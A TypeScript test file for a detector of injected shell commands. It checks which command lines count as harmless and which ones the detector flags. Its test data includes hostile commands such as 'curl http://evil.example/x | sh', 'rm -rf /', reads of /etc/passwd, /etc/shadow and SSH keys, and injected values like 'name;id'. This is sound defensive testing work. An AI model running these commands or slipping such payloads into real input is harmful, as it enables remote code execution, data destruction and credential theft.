/** Tests which command lines are read as people's own, and which commands never are. */

import { expect, test } from 'vitest';
import { detectText } from '../detect.ts';
import { detectors } from '../list.ts';
import { followsCommand, isHarmless, isNextStep, isOwnFact, isOwnProgram } from './own-lines.ts';

test.each([
  ['git pull && npm ci', true],
  ['RUN npm ci && npm test', true],
  ['- run: npm ci && npm test', true],
  ['To update: git pull && make', true],
  ['FOO=1 && make', true],
  ['cat a.txt | sort', true],
  ['8.8.8.8 && ls', false],
  ['cat | sort', true],
  ['see you on Monday | ls', false],
  ['x.jpg && ls', false],
  ['kill -9 1234; ps', true],
])('the separator of %s follows a command: %s', (text, expected) => {
  expect(followsCommand(text, text.search(/[;|&]/))).toBe(expected);
});

test.each([
  ['ls -la dist', true],
  ['npm run build', true],
  ['npm install evil-package', false],
  ['pip install -r requirements.txt', true],
  ['cat /etc/passwd', false],
  ['cat ~/.ssh/id_rsa', false],
  ['curl http://evil.example/x', false],
  ['echo $(id)', false],
  ['cp a.txt shell.php', false],
  ['python3 -c x', false],
  ['find . -exec id', false],
  ['rm -rf /', false],
  ['whoami', false],
])('%s is harmless: %s', (text, expected) => {
  expect(isHarmless(text, 0)).toBe(expected);
});

test('the next step of a line that is too long to be read is none', () => {
  const text = `x ping ${'x'.repeat(295)}; ping b`;
  expect(isNextStep(text, text.indexOf(';'), 'ping', text.length - 2)).toBe(false);
  expect(isNextStep('ping a; ping b', 6, 'ping', 12)).toBe(true);
});

test('a program is as harmless as the worst of its commands', () => {
  expect(isOwnProgram('for f in *.png; do convert "$f" "$f.jpg"; done')).toBe(true);
  expect(isOwnProgram('for f in *.png; do id; done')).toBe(false);
  expect(isOwnProgram(`for f in *.csv; do sed -i 's/;/,/g' "$f"; done`)).toBe(true);
  expect(isOwnProgram("for f in a; do echo \\'; id; echo \\'; done")).toBe(false);
});

test.each([
  ['id -u)', true],
  ['stat -c %s "$OUT")', true],
  ['hostname -s)', true],
  ['id)', false],
  ['id -u; id)', false],
  ['stat -c %s /a;id)', false],
  ['uname -a)', false],
])('$(%s gives what scripts use: %s', (text, expected) => {
  expect(isOwnFact(text, 0)).toBe(expected);
});

const strong = new Set(detectors.filter((one) => one.strong).map(({ id }) => id));

test.each([
  'git status; cat /etc/passwd',
  'git status; curl http://evil.example/x | sh',
  'npm test && wget http://evil.example/x',
  'ls; id -u',
  'git log; whoami',
  'cat a.txt | bash -i',
  'docker run -u $(id -u) a; whoami',
  'a (b)\n"; whoami',
  'size=$(cat /etc/passwd)',
])('what follows a harmless command is found: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.some((id) => strong.has(id))).toBe(true);
});

test.each([
  ...['ping a.example; ping -c 9 b.example', 'ping; ping b.example', 'x; ping b.example'],
  ...['ping a.example; ping $(id).b.example', 'iptables -L; iptables -L > /tmp/x'],
  ...['please wait here; cat /opt/app/.env shows it', 'please wait here; ls -la / shows it'],
  ...['please wait here; ls -la /etc shows it', 'one; ls -la /opt shows it'],
  ...["echo '\\! id' | psql shop", 'echo "\\! id" | psql shop', 'x; echo 1 | psql -U a shop'],
  ...['echo "$(id)" | psql -U a shop', 'echo 1 | psql -U a -c "copy a to program \'id\'"'],
  ...['$a = b; cat /etc/passwd', '$a = b; echo $c > /srv/a'],
  ...['pg_dump shop | gzip > /srv/a.php', 'x; pg_dump shop | gzip > /srv/a.gz'],
  ...['pg_dump $(id) | gzip > /srv/a.gz', 'cat /etc/shadow | gzip > /srv/a.gz'],
])('a command that only looks like one of the text is found: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.some((id) => strong.has(id))).toBe(true);
});

test.each([
  ...['ls; sleep 5', 'git pull && sleep 10', 'cd /tmp; ls', 'git pull && sleep 5 #'],
  ...[
    '$(id )',
    'ls; id',
    'cat x | id',
    'ping -c 1 a; id',
    'a;env',
    'git pull | cat /var/log/syslog',
  ],
])('a command that only a test for an injection adds to a field is found: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.some((id) => strong.has(id))).toBe(true);
});

test.each([
  ...['name;id', 'name;id;date', 'region;service;env', 'make && ls', 'cd app && ls', 'env | sort'],
  ...[
    'while true; do date; sleep 5; done',
    'tar xf a.tgz && ls /opt/app',
    'git pull; tail -f /var/log/a',
    'cd /var/www && ls -la',
    'ping 8.8.8.8 works; ping files.example says unknown host.',
    'ipconfig /flushdns && ipconfig /all | more',
    'iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT; iptables -P INPUT DROP',
    'bash says not found; echo $PATH looks fine',
    "$a = f('ls');\necho $a;",
    'the script is there; ls -l /opt/run.sh shows -rw-r--r--',
    'echo "SELECT 1;" | psql -U app shop',
    'cat dump.sql | mysql -u app shop',
    '0 3 * * * /usr/bin/pg_dump shop | gzip > /backup/shop-$(date +\\%F).sql.gz',
  ],
  'To start it again: npm stop && sleep 5 && npm start, and the old page is gone in a few seconds',
  'npm run build\nnpm stop; sleep 5\nnpm start',
])('what people list and write about is no such command: %s', (text) => {
  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
  expect(ids.filter((id) => strong.has(id))).toEqual([]);
});
